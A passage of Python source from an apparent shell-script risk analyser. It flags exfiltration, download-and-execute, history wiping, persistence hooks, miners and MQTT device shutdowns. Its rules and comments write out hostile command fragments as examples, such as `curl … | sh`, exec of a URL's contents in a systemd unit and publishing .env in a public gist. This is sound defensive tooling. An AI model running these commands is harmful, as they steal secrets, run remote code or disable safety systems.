            if op == "<" and dest in T.ENDLESS_DEVICES and argv and W.base(argv[0]) in _SLURPERS:
                self._add("shell.memory-hog", RiskLevel.HIGH, Category.RESOURCE,
                          f"{W.base(argv[0])} reads {dest} into memory (it never ends)", stmt)  # fmt: skip
            if op in ("<", "<<<"):
                if flow.network and (info.secret or dest in self.staged):
                    self._add(
                        "shell.exfiltration",
                        RiskLevel.CRITICAL,
                        Category.EXFILTRATION,
                        f"a network command reads {paths.describe(info)} as its input",
                        stmt,
                    )
                self._read(info, stmt, flow)
            elif op not in ("<&", ">&") or not dest.isdigit():
                if op == ">" and _reads_before(self._text(stmt), self._text(target)):
                    # `sort "$f" | uniq > "$f"`: the shell empties the file before the pipeline reads it
                    kept = info.kind in (paths.PathKind.TEMP, paths.PathKind.NULL) and not self._loops
                    self._add("shell.data-destroy", RiskLevel.MEDIUM if kept else RiskLevel.HIGH, Category.FILESYSTEM,
                              f"truncates {paths.describe(info)} before the command reads it (the data is lost)",
                              stmt)  # fmt: skip
                if op == ">" and self._loops and dest.startswith("/var/log/") and (HOLE in dest or "*" in dest):
                    self._add("shell.history-tamper", RiskLevel.HIGH, Category.PERSISTENCE,
                              "empties every log file a loop gives under /var/log (the system's records)",
                              stmt)  # fmt: skip
                cap = self._script_content(info, content, stmt)
                if argv and W.base(argv[0]) in ("nc", "ncat", "netcat") and any(
                    a == "--listen" or (a.startswith("-") and not a.startswith("--") and "l" in a) for a in argv[1:]
                ):
                    self.downloaded.add(dest)  # `nc -l 7070 > model.joblib`: whatever a sender sent
                self._write(info, stmt, op=">>" if ">>" in op else ">", cap=cap)
                if ">>" not in op:
                    self._created.add(dest)  # removing it later removes what this script made
                if flow.download or flow.decode:
                    # a downloaded or decoded payload written to a file: running that file runs it
                    self.downloaded.update((dest, posixpath.basename(dest)))
                if flow.dump and not (flow.secret or flow.env):
                    self._bulk_files.add(dest)  # `mysqldump … > /tmp/p.sql`: everyone's records, in a file
                if flow.secret or flow.env:
                    self.staged.add(dest)  # `cat key > /tmp/k`: the file now holds the secret
                elif info.kind in (paths.PathKind.TEMP, paths.PathKind.RELATIVE) and HOLE not in dest:
                    self._own_files.add(dest)  # `ssh-keyscan host > /tmp/h.key`: what it holds, this script wrote

    def _script_content(self, info: paths.PathInfo, content: str | None, stmt: Any) -> RiskLevel | None:
        """Analyse a script written to a place that runs it later (rc file, git hook) as shell code.

        What it would run is graded on its own (``curl … | sh`` in a profile is CRITICAL). A hook of
        the project's own repository (``.git/hooks/`` under the working directory) whose known
        content is harmless is only MEDIUM: it runs when the user commits, like a Makefile target.
        """
        if content is None or not content.strip():
            # a web server's site rendered from a template the script then has the server check (`nginx -t`)
            source = self._source.decode("utf-8", "replace")
            checked = _WEB_SITE_CONFIG.match(info.path) is not None and _WEB_CONFIG_TEST.search(source) is not None
            return RiskLevel.MEDIUM if checked and content is None else None
        if not info.persistence and not content.lstrip().startswith("#!"):
            # a command line planted in a file someone else runs (a package's __init__, a Makefile)
            self._shipped_payloads(content, stmt, f"text written to {info.path.replace(HOLE, '…')}")
        # a start-up entry running a program this script just downloaded is not quiet, however it reads
        runs_download = info.persistence and any(
            posixpath.join(posixpath.basename(posixpath.dirname(d)), posixpath.basename(d)) in content
            for d in self.downloaded
            if "/" in d and posixpath.dirname(d) and d not in self.pinned
        )
        # `. ~/.local/share/helpers.sh` added to an rc file runs what this script wrote there at every start
        sourced = [self._written_texts.get(p, "") for p in _SOURCED_FILE.findall(content)] if info.persistence else []
        judged = "\n".join([content, *sourced])
        cap = RiskLevel.MEDIUM if harmless_content(info, judged) and not runs_download else None
        self._written_texts[info.path] = content
        weakness = config_weakness(info.path, content)
        if weakness:
            self._add("shell.persistence", RiskLevel.HIGH, weakness[1], weakness[0], stmt)
        shipped = shipper_collects_secrets(content) if "://" in content else None
        if shipped:
            self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
                      f"the shipper configuration written to {info.path.replace(HOLE, '…')} sends {shipped}",
                      stmt)  # fmt: skip
        if workflow_leaks_secrets(info.path, content):
            self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
                      f"the CI workflow written to {info.path} sends the repository's secrets out", stmt)  # fmt: skip
        manifest = info.path.endswith((".yml", ".yaml", ".json"))
        if manifest and re.search(r"^\s*(?:services|spec|kind):", content, re.M):
            self._pod_spec(content, stmt)  # a compose file or a manifest: the containers it will start
        if HOLE in content:
            return cap
        tool, commands = config_commands(info.path, content)
        for command in commands[:4]:
            self._add(
                "shell.persistence",
                RiskLevel.MEDIUM,
                Category.PERSISTENCE,
                f"configures {tool} to run a command every time it is used",
                stmt,
            )
            self._nested(command, "shell", stmt, f"{tool} configuration written to {info.path.replace(HOLE, '…')}")
        language = T.CODE_SUFFIXES.get(posixpath.splitext(info.path)[1].lower())
        if language == "python" and not info.persistence:
            self._nested(content, "python", stmt, f"code written to {info.path}", keep=RiskLevel.HIGH)
        elif language is not None and not info.persistence:
            self._other_interpreter(language, content, stmt, "")
        if not info.persistence:
            if posixpath.basename(info.path) == ".envrc":
                # direnv runs it on entering the folder once allowed: loud commands in it are what they are
                self._nested(content, "shell", stmt, f"script written to {info.path}", keep=RiskLevel.HIGH)
            elif content.lstrip().startswith("#!") and "sh" in content.split("\n", 1)[0]:
                # a script written for later (a cron or at job, a timer, a worker): what it would run counts; one
                # kept in the project that nothing here runs (an image build's provisioner) counts as `medium`
                kept = info.kind is paths.PathKind.RELATIVE and not _runs_file(
                    self._source.decode("utf-8", "replace"), info.path)  # fmt: skip
                found = self._nested(content, "shell", stmt, f"script written to {info.path.replace(HOLE, '…')}",
                                     cap=RiskLevel.MEDIUM if kept else None)  # fmt: skip
                if credential_helper(info.path) and any(f.category in _SENDS_OUT for f in found):
                    self._add("shell.exfiltration", RiskLevel.CRITICAL, Category.EXFILTRATION,
                              f"the credential helper written to {info.path} sends the secrets it handles over the "
                              "network", stmt)  # fmt: skip
            return cap
        if info.path.lower().endswith(".service"):
            # a unit's commands run as written (`ExecStart=python3 -c "exec(urlopen(…).read())"`)
            for command in _UNIT_EXEC.findall(content)[:4]:
                # (systemd's `%h` is the home directory of the unit's user)
                self._nested(command.lstrip("-@:+!").replace("%h", "~"), "shell", stmt,
                             f"unit written to {info.path.replace(HOLE, '…')}", keep=RiskLevel.HIGH)  # fmt: skip
            return cap
        if info.path.lower().endswith((".desktop", ".timer", ".plist", ".conf", ".socket", ".rules")):
            return cap  # not shell scripts
        if info.path.lower().endswith((".pth", ".py")):
            # a .pth runs its `import` lines, sitecustomize.py all of it: Python code
            code = "\n".join(
                line for line in content.splitlines() if not info.path.endswith(".pth") or line.startswith("import")
            )
            self._nested(code, "python", stmt, f"code written to {info.path.replace(HOLE, '…')}")
            return cap
        self._nested(content, "shell", stmt, f"script written to {info.path}")
        return cap

    def _heredoc_body(self, redirect: Any) -> str | None:
        """The text a here-document hands over: with the script's variables expanded unless its delimiter is
        quoted (``<<'EOF'``), as the shell does."""
        bodies = [c for c in redirect.named_children if c.type == "heredoc_body"]
        if not bodies:
            return None
        text = self._text(bodies[0])
        starts = [c for c in redirect.named_children if c.type == "heredoc_start"]
        quoted = any(q in self._text(starts[0]) for q in "'\"\\") if starts else False
        return text if quoted or "$" not in text else _SIMPLE_VARIABLE.sub(self._known_value, text)

    def _heredoc(self, redirect: Any, flow: _Flow, argv: list[str] | None, stmt: Any) -> None:
        body_text = self._heredoc_body(redirect) or ""
        for child in redirect.named_children:
            if child.type in ("file_redirect", "herestring_redirect", "heredoc_redirect"):
                self._redirects([child], flow, argv, stmt)
            elif child.type == "pipeline":
                # `cat <<'EOF' | sudo tee /etc/…`: the rest of the pipeline reads what the command prints
                printed = copy.copy(flow)
                printed.text = body_text if argv and W.base(argv[0]) == "cat" and len(argv) == 1 else flow.text
                flow.absorb(self._pipeline(child, fed=printed))
        if argv:
            self._stdin_code(body_text, _Flow(), argv, stmt)

    def _known_value(self, match: re.Match[str]) -> str:
        """A ``$NAME`` / ``${NAME}`` replaced by its value when the script set it to a constant, else kept
        (``$PWD`` is the directory the script is in)."""
        name = match.group(1) or match.group(2)
        value = self.vars.get(name, (self._cwd or ".") if name == "PWD" else None)
        return value if value is not None and HOLE not in value else match.group(0)

    def _stdin_code(self, text: str, word_flow: _Flow, argv: list[str], stmt: Any, via: str = "here-document") -> None:
        """Code handed to an interpreter on stdin by a here-document or here-string (or a call's ``input``)."""
        argv = W.unwrapped(argv, ("sudo", "doas", "nice", "ionice", "timeout")) or argv  # `sudo -u app python3 -`
        argv = _container_exec_command(argv) or argv  # `docker exec -i app python3 - <<'PY'`: run in the container
        lang = _interpreter_language(argv)
        if lang is None and argv and W.base(argv[0]) in ("docker", "podman", "buildah", "nerdctl") and "build" in argv:
            self._dockerfile_runs(text, stmt)
        if lang is None:
            self._shipped_payloads(text, stmt, f"a here-document for {W.base(argv[0]) if argv else 'a command'}")
            return
        if word_flow.remote:
            self._add(
                "shell.download-exec",
                RiskLevel.CRITICAL,
                Category.DYNAMIC_CODE,
                "downloaded or decoded code is fed to an interpreter",
                stmt,
            )
        elif lang in ("shell", "python"):
            # `python3 - "$file" <<EOF`: the words after `-` are its arguments
            positional = argv[argv.index("-") + 1 :] if "-" in argv else []
            self._nested(text, lang, stmt, f"{W.base(argv[0])} {via}", positional=positional)
        elif lang == "other":
            positional = argv[argv.index("-") + 1 :] if "-" in argv else []
            self._other_interpreter(W.base(argv[0]), text, stmt, "", positional)

    def _dockerfile_runs(self, text: str, node: Any) -> None:
        """A Dockerfile's RUN lines: what they do to the image's own files is the image's business (`rm -rf
        /wheels` after installing them); what they fetch, run, open or send is judged as any command line."""
        for run in _DOCKERFILE_RUN.findall(text)[:8]:
            self._nested(run.replace("\\\n", " "), "shell", node, "a Dockerfile RUN line", keep=RiskLevel.HIGH,
                         drop=frozenset({Category.FILESYSTEM}))  # fmt: skip

    def _shipped_payloads(self, text: str, node: Any, via: str) -> None:
        """Command lines in data sent to run elsewhere (a manifest, a create request, user data)."""
        if names_miner(text):
            self._add("shell.miner", RiskLevel.HIGH, Category.RESOURCE, f"names a miner or a mining pool ({via})", node)
        if _DOCKERFILE_FROM.match(text):
            self._dockerfile_runs(text, node)
            return
        if self.depth >= MAX_DEPTH or not looks_like_payload(text):
            return
        for command in embedded_commands(text):
            self._nested(command, "shell", node, via, keep=RiskLevel.HIGH)

    # ----------------------------------------------------------------- assignments
    def _assignment(self, node: Any) -> _Flow:
        name_node = node.child_by_field_name("name")
        value_node = node.child_by_field_name("value")
        name = self._text(name_node) if name_node is not None else ""
        flow = _Flow()
        if value_node is not None and value_node.type == "array":
            # arr=(a b c): remember the elements; $arr alone is the first one
            elements: list[str] = []
            for element in value_node.named_children:
                elements.extend(self._split_word(element, flow))
            if name and self._text(node).startswith(name + "+="):
                elements = [*self.arrays.get(name, []), *elements][:16]  # arr+=(x): appended
            self.arrays[name] = elements
            value = elements[0] if elements else ""
        else:
            value = self._word(value_node, flow) if value_node is not None else ""
            self.arrays.pop(name, None)
            if name and self._text(node).startswith(name + "+="):
                value = self.vars.get(name, HOLE) + value  # W=wg; W+=et
        spelled = self._text(value_node) if value_node is not None else ""
        attached = _LOOP_ATTACH.search(spelled) if "losetup" in spelled else None
        if attached is not None and value.strip(HOLE) == "":
            # `LOOP=$(losetup -f --show disk.img)`: the loop device stands for the image file behind it
            value = re.sub(r"\$\{?(\w+)\}?", lambda m: self.vars.get(m[1], HOLE), attached[1].strip("\"'"))
        if name and self._branches and value.strip(HOLE) == "" and HOLE not in self.vars.get(name, HOLE):
            # `--prefix) PREFIX="$2" ;;` in an option loop: when not given, the default is the value
            return flow
        if name:
            self.vars[name] = value
            self.var_flow[name] = flow
            self._check_variable(name, value, node)
            if name in _STARTUP_FILE_VARIABLES and (flow.download or value in self.downloaded):
                self._add("shell.download-exec", RiskLevel.CRITICAL, Category.DYNAMIC_CODE,
                          f"{name} names downloaded code: every shell or interpreter started runs it first",
                          node)  # fmt: skip
        return flow

    def _check_variable(self, name: str, value: str, node: Any) -> None:
        if name in T.HISTORY_VARS and (
            value in ("", "0", "/dev/null") or (name in ("HISTCONTROL", "HISTIGNORE") and "*" in value)
        ):
            self._add(
                "shell.history-tamper",
                RiskLevel.HIGH,
                Category.PERSISTENCE,
                f"disables shell history ({name}={value or repr('')})",
                node,
            )
        elif name in ("LD_PRELOAD", "DYLD_INSERT_LIBRARIES"):
            # libfaketime, jemalloc, a sanitizer: installed test tooling (`$(gcc -print-file-name=libasan.so)`)
            asked = _COMPILER_LIBRARY.search(self._text(node))
            tooling = paths.tooling_preload(asked[1] if asked and value.strip() == HOLE else value)
            self._add(
                "shell.preload",
                RiskLevel.LOW if tooling else RiskLevel.HIGH,
                Category.PRIVILEGE,
                f"{name} injects a library into every program started"
                + (" (an installed testing or profiling library)" if tooling else ""),
                node,
            )
        elif name == "TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD" and value.strip("\"'").lower() not in ("", "0", "false"):
            self._add("shell.deserialization", RiskLevel.HIGH, Category.DESERIALIZATION,
                      "turns off torch.load's safe loader for every load (a checkpoint can run code)",
                      node)  # fmt: skip
        elif name == "PROMPT_COMMAND" and not _HISTORY_SYNC.match(value):
            self._add(
                "shell.prompt-command",
                RiskLevel.MEDIUM,
                Category.PERSISTENCE,
                "PROMPT_COMMAND runs code before every prompt",
                node,
            )

    def _declaration(self, node: Any) -> _Flow:
        flow = _Flow()
        for child in node.named_children:
            if child.type == "variable_assignment":
                flow.absorb(self._assignment(child))
            else:
                flow.absorb(self._stmt(child))
        return flow

    def _unset(self, node: Any) -> _Flow:
        for child in node.named_children:
            name = self._text(child)
            if name in ("HISTFILE", "HISTSIZE", "HISTFILESIZE"):
                self._add(
                    "shell.history-tamper",
                    RiskLevel.HIGH,
                    Category.PERSISTENCE,
                    f"unset {name} disables shell history",
                    node,
                )
        return _Flow()

    # ----------------------------------------------------------------- words
    def _word(self, node: Any, flow: _Flow) -> str:
        """Resolve a word to a string; substitutions are analysed and their flow merged."""
        kind = node.type
        if kind == "word":
            text = self._text(node)
            if "\\" in text:
                text = text.replace("\\", "")  # r\m is rm: escapes only quote characters here
            return HOLE if text == HOLE_WORD else text.replace(HOLE_WORD, HOLE)
        if kind in ("number", "special_variable_name"):
            return self._text(node)
        if kind == "raw_string":
            return self._text(node)[1:-1].replace(HOLE_WORD, HOLE)
        if kind == "ansi_c_string":
            inner = self._text(node)[2:-1]
            try:
                decoded = codecs.decode(inner, "unicode_escape")
            except (UnicodeDecodeError, ValueError):
                return inner
            if decoded != inner and any(c in inner for c in ("\\x", "\\0", "\\u")):
                flow.decode = True
            return decoded
        if kind in ("string", "concatenation", "translated_string"):
            parts: list[str] = []
            pos = node.start_byte
            for child in node.children:
                if child.start_byte > pos:
                    parts.append(self._source[pos : child.start_byte].decode("utf-8", "replace"))
                if child.is_named:
                    value = self._word(child, flow)
                    if child.type == "simple_expansion":
                        # tree-sitter-bash puts the blank before `$h` inside its node: `"$A $h"` keeps it
                        raw = self._text(child)
                        value = raw[: len(raw) - len(raw.lstrip())] + value
                    parts.append(value)
                elif child.type not in ('"', '$"'):
                    parts.append(self._text(child))
                pos = child.end_byte
            text = "".join(parts)
            if kind == "string":
                text = _DQ_ESCAPE.sub(r"\1", text)  # "\"" is ", "\$" is $ inside double quotes
            return text.replace(HOLE_WORD, HOLE)
        if kind == "string_content":
            return self._text(node).replace(HOLE_WORD, HOLE)
        if kind in ("simple_expansion", "expansion"):
            return self._expansion(node, flow)
        if kind in ("command_substitution", "process_substitution"):
            captured = self._sequence(node)
            if captured.endless and kind == "command_substitution":
                self._add(
                    "shell.memory-hog", RiskLevel.HIGH, Category.RESOURCE, "captures endless output in memory", node
                )
            flow.absorb(captured)
            if kind == "command_substitution" and captured.text is not None and HOLE not in captured.text:
                return captured.text.rstrip("\n")  # $(printf ...) / $(echo ... | base64 -d): known output
            if kind == "command_substitution" and captured.text in ("/dev/" + HOLE, "secret/" + HOLE):
                return captured.text  # $(lsblk -dpno NAME | ...): one of the machine's disks (or a cluster's secrets)
            if kind == "command_substitution" and _DISK_LISTING.search(self._text(node)):
                return "/dev/" + HOLE  # $(lsblk -ndo NAME | awk '{print "/dev/"$1}'): the same, prefixed by hand
            newest = _NEWEST_FILE.match(self._text(node)) if kind == "command_substitution" else None
            if newest and "/" in newest[1]:
                # $(ls -t /exports/cardholders_*.csv | head -1), $(ls -t "$DROP"/*.pkl | head -1): one of those
                spelled = _SIMPLE_VARIABLE.sub(lambda m: self.vars.get(m[1] or m[2], HOLE), newest[1])
                return spelled.replace('"', "").replace("'", "").replace("*", HOLE)
            if kind == "command_substitution" and _MKTEMP.match(self._text(node)):
                return "/tmp/" + HOLE  # a new temporary file or directory
            if kind == "command_substitution" and _SITE_PACKAGES_LOOKUP.search(self._text(node)):
                return INSTALLED_PACKAGES  # $(python3 -c 'import sysconfig; print(sysconfig.get_paths()["purelib"])')
            lookup = _PROGRAM_LOOKUP.match(self._text(node)) if kind == "command_substitution" else None
            if lookup:
                return lookup.group(1)  # $(command -v python3): that program, wherever it is installed
            if kind == "command_substitution" and self._text(node) in ("$(pwd)", "$(pwd -P)", "`pwd`"):
                return self._cwd or "."  # the working directory, as $PWD
            repository = _GIT_REPO_PATH.match(self._text(node))
            if kind == "command_substitution" and repository:
                # $(git rev-parse --show-toplevel): this repository, wherever it is checked out
                return "." if repository.group(1) == "show-toplevel" else ".git"
            return HOLE
        if kind == "arithmetic_expansion":
            return HOLE
        for child in node.named_children:
            self._stmt(child)
        return self._text(node)

    def _split_word(self, node: Any, flow: _Flow) -> list[str]:
        """A command word; an unquoted ``$VAR`` is split into words (``R="rm -rf"; $R /`` runs rm)."""
        match = _ARRAY_ALL.fullmatch(self._text(node))
        if match and match.group(1) in self.arrays:
            return list(self.arrays[match.group(1)])  # "${arr[@]}": one word per element
        value = self._word(node, flow)
        if (
            value != HOLE
            and len(value.split()) > 1
            and (node.type in ("simple_expansion", "expansion") or self._text(node) in ('"$@"', '"${@}"'))
        ):
            return value.split()  # "$@" too: one word per positional parameter
        return [value]

    def _expansion(self, node: Any, flow: _Flow) -> str:
        kinds = [c.type for c in node.children]
        if kinds[:3] == ["${", "!", "variable_name"] and kinds[3:] == ["}"]:
            # ${!ref}: the variable whose name $ref holds
            ref = self.vars.get(self._text(node.children[2]), HOLE)
            if HOLE in ref or not re.fullmatch(r"[A-Za-z_][A-Za-z0-9_]*", ref):
                flow.env = True  # a variable picked at run time: any of the environment's (`compgen -e` loops)
                return HOLE
            return self._named_value(ref, flow)
        name = ""
        default: Any = None
        for child in node.named_children:
            if child.type == "subscript" and not name:
                array = child.child_by_field_name("name")
                index = child.child_by_field_name("index")
                elements = self.arrays.get(self._text(array)) if array is not None else None
                if elements is not None and index is not None:
                    key = self._text(index)
                    if key in ("@", "*"):
                        return " ".join(elements)
                    if key.isdigit() and int(key) < len(elements):
                        return elements[int(key)]
                return HOLE
            if child.type in ("variable_name", "special_variable_name") and not name:
                name = self._text(child)
            elif child.type not in ("variable_name",) and default is None and name:
                default = child
        value = self._named_value(name, flow)
        # `pid=$(cat app.pid 2>/dev/null); kill -9 ${pid:--1}`: a value known only at run time may be empty, and
        # then the default is what runs
        empty_default = value == HOLE and default is not None and ":-" in self._text(node)
        if (value != HOLE or name in self.vars) and not empty_default:
            trimmed = _TRIM.match(self._text(node)) if default is not None and HOLE not in value else None
            return _trim(value, trimmed["op"], trimmed["pattern"]) if trimmed else value
        if default is None and node.type == "expansion" and re.fullmatch(r"\$\{\w+:?[-=]\}", self._text(node)):
            return ""  # `${ROOT:-}`: empty unless the caller set it (then `"$ROOT"/etc/pam.d` is /etc/pam.d)
        if default is not None and node.type == "expansion":
            text = self._text(node)
            if ":-" in text or ":=" in text:
                value = self._word(default, flow)
                if text.startswith("${" + name + ":="):
                    self.vars[name] = value  # `: "${TARGET:=/srv/data}"` assigns the default too
                return value
        return HOLE

    def _named_value(self, name: str, flow: _Flow) -> str:
        """The value of variable ``name`` as far as known, its provenance merged into ``flow``."""
        if name == "HOME":
            return self.vars.get("HOME", "~")  # (`export HOME="$(mktemp -d)"`: a throwaway home for a test)
        if name == "PWD" and name not in self.vars:
            return self._cwd or "."  # the directory the script is in (or the last `cd` went to)
        if name == "RUNNER_TEMP" and name not in self.vars:
            return "/tmp/runner"  # a CI runner's temporary folder (emptied after each job)
        if name == "IFS" and name not in self.vars:
            return " "  # `curl${IFS}-s${IFS}URL`: the default IFS splits the word into arguments
        if name in self.var_flow:
            flow.absorb(self.var_flow[name])
        if T.CREDENTIAL_NAME.search(name):
            flow.credential = True
        if name in _REQUEST_VARIABLES and name not in self.vars:
            flow.download = True  # a CGI script's request: whatever the client sent
        return self.vars.get(name, HOLE)

    # ----------------------------------------------------------------- commands
    def _command(self, node: Any, redirects: list[Any] | None = None, extra: list[Any] | None = None) -> _Flow:
        flow = _Flow()
        argv: list[str] = []
        redirects = list(redirects or [])
        assignments: list[Any] = []
        for child in node.named_children:
            kind = child.type
            if kind == "command_name":
                inner = child.named_children[0] if child.named_children else child
                argv[0:0] = self._split_word(inner, flow)
            elif kind == "variable_assignment":
                assignments.append(child)
            elif kind in ("file_redirect", "heredoc_redirect", "herestring_redirect"):
                redirects.append(child)
            else:
                word_flow = _Flow()
                words = self._split_word(child, word_flow)
                if child.type == "process_substitution" and word_flow.download and argv:
                    fetched_script = W.base(argv[0]) in _FILE_CODE_RUNNERS  # `make -f <(curl …)`
                    if fetched_script:
                        self._add("shell.download-exec", RiskLevel.CRITICAL, Category.DYNAMIC_CODE,
                                  f"{W.base(argv[0])} runs a file downloaded from the network (a process "
                                  "substitution)", node)  # fmt: skip
                if _authenticates(argv[-1] if argv else "", words[0] if words else ""):
                    # `-H "Authorization: Bearer $TOKEN"`: the token logs in to the service it goes to
                    word_flow.secret = word_flow.env = False
                flow.absorb(word_flow)
                argv.extend(words)
        for word in extra or ():
            argv.append(self._word(word, flow))
        if argv and " " in argv[0].strip():
            argv[0:1] = argv[0].split()  # an unquoted expansion in the command name splits into words
        saved = dict(self.vars)
        for assignment in assignments:
            assigned = self._assignment(assignment)
            name_node = assignment.child_by_field_name("name")
            if name_node is not None and T.CREDENTIAL_NAME.search(self._text(name_node)):
                # `GITHUB_TOKEN=$(gopass show x) gh release create`: the token logs the command in
                assigned.secret = assigned.env = False
            flow.absorb(assigned)
        # `tee FILE <<EOF`: what the command reads from its here-document is known before it runs
        heredocs = [r for r in redirects if r.type == "heredoc_redirect"]
        bodies = [b for b in map(self._heredoc_body, heredocs) if b is not None]
        self._heredoc_text = bodies[0] if bodies else None
        interpreter = bool(argv) and W.base(argv[0]) in _SCRIPT_INTERPRETERS
        if interpreter and any(
            _DOWNLOAD_IN_HEREDOC.search(self._text(h)) and not re.match(r"<<-?\s*['\"\\]", self._text(h))
            for h in heredocs
        ):
            self._add("shell.download-exec", RiskLevel.CRITICAL, Category.DYNAMIC_CODE,
                      f"{W.base(argv[0])} runs code a here-document downloads as it is read", node)  # fmt: skip
        if argv:
            self._argv(argv, node, flow, redirects)
        self._heredoc_text = None
        if assignments and argv:
            self.vars = saved  # `VAR=x cmd` sets VAR for cmd only
        self._redirects(
            redirects,
            flow,
            argv,
            node.parent if node.parent is not None and node.parent.type == "redirected_statement" else node,
        )
        return flow

    def _argv(self, argv: list[str], node: Any, flow: _Flow, redirects: list[Any]) -> _Flow:
        """Apply the command rules to a resolved argument vector."""
        self._as_root = False
        argv = self._unwrap(argv, node, flow)
        if not argv:
            return flow
        name = W.base(argv[0])
        args = argv[1:]
        spelled = " ".join(args)  # for cheap tests before the per-argument ones
        if name in _LINE_PICKERS and any(T.CREDENTIAL_NAME.search(a) for a in (args[:-1] or args)[:3]):
            flow.credential = True  # `awk -F= '/^AuthorizationKey/{print $2}' conf.ini`: one setting's secret value
        if argv[0] in self.aliases and self.depth < MAX_DEPTH:
            # an alias defined earlier: what it expands to is what runs
            self._nested(" ".join([self.aliases[argv[0]], *args]), "shell", node, f"alias {argv[0]}")
            return flow
        for sent in W.option_values(args, "-f", "--file") if name == "mosquitto_pub" else []:
            info = paths.classify(sent)
            if info.secret:  # a file published as a message: whoever subscribes (a public broker: anyone) has it
                self._add("shell.exfiltration", RiskLevel.CRITICAL, Category.EXFILTRATION,
                          f"mosquitto_pub publishes {paths.describe(info)} as a message", node)  # fmt: skip
        if name in ("mosquitto_pub", "mqttx") and vehicle_command(" ".join(W.option_values(args, "-m", "--message"))):
            self._add("shell.vehicle-command", RiskLevel.HIGH, Category.PROCESS,
                      f"{name} publishes a command that immobilises, stops or unlocks vehicles", node)  # fmt: skip
        if name in ("mosquitto_pub", "mqttx"):  # (the topics and message are read only for these clients)
            topics = " ".join(W.option_values(args, "-t", "--topic"))
            message = " ".join(W.option_values(args, "-m", "--message")).strip("\"' ").lower()
            if T.WATCHERS.search(topics.lower()) and message in _OFF_WORDS:
                # `-t site/room/cmd/alarms -m off`: the alarms, monitors or safety of what listens switched off
                self._add("shell.device", RiskLevel.HIGH, Category.PROCESS,
                          f"{name} switches off {topics[:60]} (alarms, monitoring or safety)", node)  # fmt: skip
            elif (
                message in _OFF_WORDS
                and HOLE in topics
                and (self._loops or self._repeated)
                and re.search(r"/(?:cmd|command|commands|set)(?:/|$)", topics)
            ):
                # `… | while read -r site; do mosquitto_pub -t "fleet/$site/cmd/mode" -m off`: every device listed
                self._add("shell.device", RiskLevel.HIGH, Category.PROCESS,
                          f"{name} sends '{message}' to the command topic of every device a listing gives",
                          node)  # fmt: skip
        if name in ("mosquitto_sub", "mqttx") and "#" in W.option_values(args, "-t", "--topic"):
            flow.secret = True  # every message of every device and user on the broker
            self._add("shell.secret-read", RiskLevel.MEDIUM, Category.EXFILTRATION,
                      f"{name} subscribes to every topic of the broker ('#')", node)  # fmt: skip
        if field_command(name, args):
            local = local_devices(" ".join(args))
            self._add("shell.field-device", RiskLevel.MEDIUM if local else RiskLevel.HIGH, Category.PROCESS,
                      f"{name} writes coils or registers of a field device (a PLC, a drive)", node)  # fmt: skip
        if name == "gh" and args[:1] in (["gist"], ["issue"], ["pr"]) and args[1:2] in (["create"], ["comment"]):
            # `gh gist create --public .env`, `gh issue create --body-file dump.md`: published on GitHub
            files = [*W.option_values(args, "-F", "--body-file")]
            if args[0] == "gist":
                files += W.options(args[2:], frozenset({"-d", "--desc", "-f", "--filename"}))[1]
            public = args[0] == "gist" and any(a in ("-p", "--public") for a in args)
            leaked = [f for f in files if f in self.staged or paths.classify(f).secret or (
                public and paths.classify(f).kind is paths.PathKind.HOME and "/." in f.replace("~/", "/."))]
            if leaked:
                self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
                          f"gh {args[0]} {args[1]} publishes {leaked[0]}, which holds secrets, on GitHub",
                          node)  # fmt: skip
        if name == "unbound-control" and any(a in ("local_data", "local_zone", "local_datas") for a in args):
            records = " ".join(args[args.index(next(a for a in args if a.startswith("local_"))) + 1 :])
            names = re.findall(r"([\w-]+(?:\.[\w-]+)+)\.?\s+(?:\d+\s+)?(?:IN\s+)?A{1,4}\b", records)
            if any(not n.endswith(_INTERNAL_ZONES) for n in names):
                # a public name answered with another address for everyone who uses this resolver
                self._add("shell.interception", RiskLevel.HIGH, Category.NETWORK,
                          f"unbound-control makes the resolver answer for {names[0]} itself", node)  # fmt: skip
        if name in ("croc", "wormhole") and "send" in args:
            self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
                      f"{name} send hands files to whoever holds the code (a relay transfer out of the machine)",
                      node)  # fmt: skip
        if name == "uci" and args[:1] == ["set"]:
            device = device_commands_risk("uci " + " ".join(args))  # a router's own configuration tool
            if device is not None:
                self._add("shell.device", device.level, device.category, device.what, node)
        verbs_365 = [a for a in args if not a.startswith("-")][:5] if name in ("m365", "o365") else []
        if verbs_365 and not {"list", "get", "remove"} & set(verbs_365):
            # `m365 spo tenant settings set --SharingCapability …`: the CLI for Microsoft 365's own words
            # (listing links of a scope, or removing them, shares nothing)
            shared = sharing_risk(" ".join(args))
            if shared is not None:
                self._add("shell.documents", shared.level, shared.category, f"{name} {shared.what}", node)
        if name == "rclone" and args[:2] == ["config", "create"] and len(args) > 2 and personal_mailbox(" ".join(args)):
            self._personal_remotes.add(args[2])  # a cloud account registered to someone's own mailbox
        if name == "rclone" and args[:2] == ["config", "create"] and len(args) > 2:
            # `rclone config create dropzone webdav url https://dav.filecabin.example.net/…`: a server elsewhere
            urls = [b for a, b in itertools.pairwise(args[3:]) if a == "url"] + [
                a[4:] for a in args if a.startswith("url=")
            ]
            if any(_internet_url(u) for u in urls):
                self._outside_remotes.add(args[2])
        verbs = W.options(args, frozenset({"--config", "--log-file", "--transfers", "--checkers"}))[1] if name == (
            "rclone") else []  # fmt: skip
        if verbs[:1] in (["copy"], ["sync"], ["move"], ["copyto"]) and any(
            a.split(":", 1)[0] in self._personal_remotes
            or _PERSONAL_REMOTE.search(a.split(":", 1)[0])
            or _PERSONAL_FOLDER.search(a.split(":", 1)[1])  # (`X:/personal/farm-hr`: a folder of someone's own)
            for a in verbs[2:]
            if ":" in a and not a.startswith("-")
        ):
            what = f"rclone {verbs[0]} sends files to a personal cloud account (a personal mailbox or remote name)"
            self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION, what, node)
        elif verbs[:1] in (["copy"], ["sync"], ["move"], ["copyto"]) and any(
            a.split(":", 1)[0] in self._outside_remotes for a in verbs[2:] if ":" in a
        ) and any(paths.personal_media(a) or self._bulk_file(a) for a in verbs[1:2]):
            # people's records or media copied to a server of the internet this script set up as a remote
            what = f"rclone {verbs[0]} copies people's files or records ({verbs[1]}) to a server on the internet"
